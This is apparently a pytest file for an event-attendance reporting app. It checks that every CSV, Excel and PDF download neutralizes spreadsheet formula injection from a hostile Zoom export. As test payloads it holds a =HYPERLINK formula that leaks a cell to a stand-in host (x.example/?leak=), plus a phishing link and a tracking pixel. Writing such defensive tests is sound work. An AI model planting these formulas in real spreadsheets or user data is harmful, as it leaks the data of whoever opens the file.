"""Downloads safe to open (CWE-1236): a hostile Zoom export (names, organizations, a topic and a
country answer written as spreadsheet formulas) imported through the real import code, then
every download the app offers, read back the way a spreadsheet would read it."""

from __future__ import annotations

import csv
import io
import json

import openpyxl
import pandas as pd
import pytest

from engagement import audit, db, overrides, pdf, queries, reports, safe_export, suppress
from tests.conftest import FIXTURES, import_path

HOSTILE = queries.Selection("hostile")
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
TOPIC = '=HYPERLINK("http://x.example/?leak="&A2,"click")'


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory):
    con = db.connect(tmp_path_factory.mktemp("hostile") / "hostile.duckdb")
    reg = import_path(con, FIXTURES / "hostile_registration.csv", "hostile", "UTC")
    att = import_path(con, FIXTURES / "hostile_attendee.csv", "hostile", "UTC")
    assert (reg.status, reg.registrants, reg.rows_rejected) == ("imported", 10, 0)
    assert (att.status, att.attendees, att.rows_rejected) == ("imported", 11, 0)
    yield con
    con.close()


def run_on(con):
    def run(name, selection=None, **params):
        return queries.run(con, name, selection, **params)

    return run


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(DANGEROUS)]


def quoted_cells(rows: list[list[str]]) -> list[str]:
    """Cells our neutralizing quote protects (a leading ' before a dangerous character)."""
    return [cell for row in rows for cell in row if cell[:1] == "'" and cell[1:2] in DANGEROUS]


# --- neutralize itself ----------------------------------------------------------------------


def test_neutralize_quotes_text_and_headers_and_keeps_numbers():
    df = pd.DataFrame(
        {
            "name": ["=1+1", "+a", "-b", "@c", "\td", "\re", "plain", None],
            "=head": [1, -2, 3, 4, 5, 6, 7, 8],
            "mixed": pd.Series(["-x", 5, -1.5, None, "ok", "=y", 0, "a=b"], dtype=object),
            "share": [0.5, -0.25, None, 1.0, 0.0, 0.1, 0.2, 0.3],
        }
    )
    out = safe_export.neutralize(df)
    assert list(out.columns) == ["name", "'=head", "mixed", "share"]
    assert out["name"].tolist()[:7] == ["'=1+1", "'+a", "'-b", "'@c", "'\td", "'\re", "plain"]
    assert pd.isna(out["name"].iloc[7])
    assert out["mixed"].tolist()[:3] == ["'-x", 5, -1.5]
    assert out["mixed"].tolist()[5:] == ["'=y", 0, "a=b"]
    assert out.dtypes.tolist() == df.dtypes.tolist()  # str, int64, object, float64
    assert out["'=head"].tolist() == df["=head"].tolist()
    assert safe_export.dangerous_cells(out) == []
    assert df["name"].iloc[0] == "=1+1"  # the caller's frame is not changed


def test_restore_gives_back_what_was_typed():
    df = pd.DataFrame({"title": ["=SUM(1)", "'quoted", "'=kept"], "n": [1, 2, 3]})
    back = safe_export.restore(safe_export.neutralize(df))
    assert back["title"].tolist() == ["=SUM(1)", "'quoted", "'=kept"][:2] + ["=kept"]
    assert back["n"].tolist() == [1, 2, 3]


def test_categorical_text_is_neutralized():
    df = pd.DataFrame({"kind": pd.Categorical(["=a", "b", "=a"])})
    assert safe_export.neutralize(df)["kind"].tolist() == ["'=a", "b", "'=a"]


# --- every download of the hostile export ----------------------------------------------------


def test_every_report_csv_has_no_formula_cell(hostile_db):
    summary = reports.summary(run_on(hostile_db), HOSTILE, "attendees")
    quoted = {}
    for name, table in summary.tables.items():
        rows = csv_cells(reports.to_csv(table))
        assert formula_cells(rows) == [], name
        quoted[name] = quoted_cells(rows)
    assert quoted["Sessions"] == [
        "'" + TOPIC + " [Register](http://phish.example) ![x](http://x.example/pixel.png)"
    ]
    sessions = pd.read_csv(io.BytesIO(reports.to_csv(summary.tables["Sessions"])))
    assert sessions[["Registrants", "Attendees", "Peak concurrent"]].iloc[0].tolist() == [
        10,
        11,
        11,
    ]
    assert pd.api.types.is_integer_dtype(sessions["Attendees"])


def _workbook_cells(data: bytes):
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield sheet.title, cell


def test_excel_workbook_has_no_formula_and_numbers_stay_numbers(hostile_db):
    summary = reports.summary(run_on(hostile_db), HOSTILE, "attendees")
    for data in (
        reports.to_excel(summary.tables, "note"),
        safe_export.to_excel_bytes(suppress.summary(summary, 5).tables, [suppress.note(5)]),
    ):
        cells = list(_workbook_cells(data))
        assert [c.coordinate for _, c in cells if c.data_type == "f"] == []
        texts = [c.value for _, c in cells if isinstance(c.value, str)]
        assert [t for t in texts if t.startswith(DANGEROUS)] == []
        topic = [c for s, c in cells if s == "Sessions" and str(c.value).startswith("'=HYPER")]
        assert len(topic) == 1 and topic[0].data_type == "s"
    full = {(s, c.coordinate): c for s, c in _workbook_cells(reports.to_excel(summary.tables))}
    # Sessions row 2: registrants D2, attendees E2 are numbers, not text
    assert (full[("Sessions", "D2")].value, full[("Sessions", "E2")].value) == (10, 11)
    assert full[("Sessions", "E2")].data_type == "n"


def test_attendance_list_as_displayed_and_exported(hostile_db):
    """What the Attendance list shows (ui.table) is what its toolbar exports."""
    people = queries.run(hostile_db, "session_people", HOSTILE)
    assert len(people) == 11
    rows = csv_cells(safe_export.to_csv_bytes(people))
    assert formula_cells(rows) == []
    # the host's and 6 attendees' names start with =, +, - or @ ("\tTab" is trimmed on import)
    assert len(quoted_cells(rows)) == 7
    assert pd.api.types.is_numeric_dtype(safe_export.neutralize(people)["minutes"])


def test_sessions_table_as_displayed(hostile_db):
    overview = queries.run(hostile_db, "sessions_overview", HOSTILE)
    shown = safe_export.neutralize(overview)
    assert safe_export.dangerous_cells(shown) == []
    assert shown["title"].iloc[0].startswith("'=HYPERLINK(")
    assert shown["attendees"].dtype == overview["attendees"].dtype


def test_overrides_csv_is_safe_and_reads_back_as_typed(hostile_db, tmp_path):
    con = db.connect(tmp_path / "ovr.duckdb")
    overrides.set_override(con, "country", "=1+1", "-")
    overrides.set_override(con, "organization", "+SUM(1,2)", "academia")
    data = overrides.export_csv(con)
    rows = csv_cells(data)
    assert formula_cells(rows) == []
    assert rows[1:] == [["country", "'=1+1", "'-"], ["organization", "'+sum(1,2)", "academia"]]
    con.execute("delete from overrides")
    assert overrides.import_csv(con, data, {"country": {"-"}}) == 2
    stored = con.execute("select kind, raw_key, value from overrides order by kind").fetchall()
    assert stored == [("country", "=1+1", "-"), ("organization", "+sum(1,2)", "academia")]
    con.close()


def test_audit_log_csv_is_safe(tmp_path):
    con = db.connect(tmp_path / "audit.duckdb")
    audit.record(con, audit.LOCAL, "import", '=HYPERLINK("x").csv', {"rows": 3})
    audit.record(con, audit.Actor("@evil.example", "viewer"), "download", "-x.csv")
    rows = csv_cells(safe_export.to_csv_bytes(audit.entries(con)))
    assert formula_cells(rows) == []
    assert sorted(quoted_cells(rows)) == ["'-x.csv", '\'=HYPERLINK("x").csv', "'@evil.example"]
    con.close()


def test_briefing_of_the_hostile_export_builds(hostile_db):
    summary = suppress.summary(reports.summary(run_on(hostile_db), HOSTILE, "attendees"), 5)
    sessions = queries.run(hostile_db, "sessions_list", event_id="hostile")
    data = pdf.briefing_pdf(
        summary, TOPIC, pdf.selection_words(HOSTILE, sessions, "attendees"), suppress.note(5)
    )
    assert data.startswith(b"%PDF")


# --- the audit of a download ---------------------------------------------------------------


def test_a_download_is_audited_when_the_file_is_built(tmp_path):
    con = db.connect(tmp_path / "dl.duckdb")
    selection = queries.Selection("wlpf2021", regions=("AFR",))
    detail = safe_export.download_detail("table By country", selection, "attendees", True)
    build = safe_export.audited(lambda: b"a,b\n", con.cursor, audit.LOCAL, "x.csv", detail)
    assert audit.entries(con).empty  # nothing until the file is built
    assert build() == b"a,b\n"
    entry = audit.entries(con).iloc[0]
    assert (entry.actor, entry.role, entry.action, entry.target) == (
        "local",
        "organizer",
        "download",
        "x.csv",
    )
    assert json.loads(entry.detail) == {
        "what": "table By country",
        "event_id": "wlpf2021",
        "days": [],
        "session_ids": [],
        "regions": ["AFR"],
        "stakeholders": [],
        "roles": [],
        "basis": "attendees",
        "suppressed": True,
    }
    con.close()


def test_programme_editor_shows_quoted_titles_and_saves_them_as_typed(tmp_path):
    """The Data page's editor (ui.editor) shows neutralize(current) and saves restore(edited)."""
    from engagement import programme

    con = db.connect(tmp_path / "prog.duckdb")
    import_path(con, FIXTURES / "hostile_attendee.csv", "hostile", "UTC")
    current = programme.current(con, "hostile")
    shown = safe_export.neutralize(current)
    assert shown["title"].iloc[0].startswith("'=HYPERLINK(")
    assert safe_export.dangerous_cells(shown) == []
    edited = safe_export.restore(shown).assign(start_local="13:00", end_local="15:35")
    programme.save(con, "hostile", "UTC", edited, write_file=False)
    (title,) = con.execute("select title from sessions where event_id = 'hostile'").fetchone()
    assert title == current["title"].iloc[0]
    assert title.startswith(TOPIC)
    con.close()


def test_report_files_are_safe_to_open(hostile_db):
    """The Downloads page's and the report command's files (report_files): no live formula
    anywhere in the workbook (Notes sheet included) or the CSVs, numbers stay numbers."""
    from engagement import report_files

    con = hostile_db
    con.execute("update events set name = $n where event_id = 'hostile'", {"n": TOPIC})
    report = report_files.build(run_on(con), HOSTILE, "attendees", 5)
    [book] = report_files.files(report, "xlsx").values()
    cells = list(_workbook_cells(book))
    assert [f"{s}!{c.coordinate}" for s, c in cells if c.data_type == "f"] == []
    texts = [c.value for _, c in cells if isinstance(c.value, str)]
    assert [t for t in texts if t.startswith(DANGEROUS)] == []
    assert any(t.startswith("'=HYPERLINK") for t in texts)  # the title, quoted, not dropped
    for name, data in report_files.files(report, "csv").items():
        frame = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
        assert safe_export.dangerous_cells(frame) == [], name
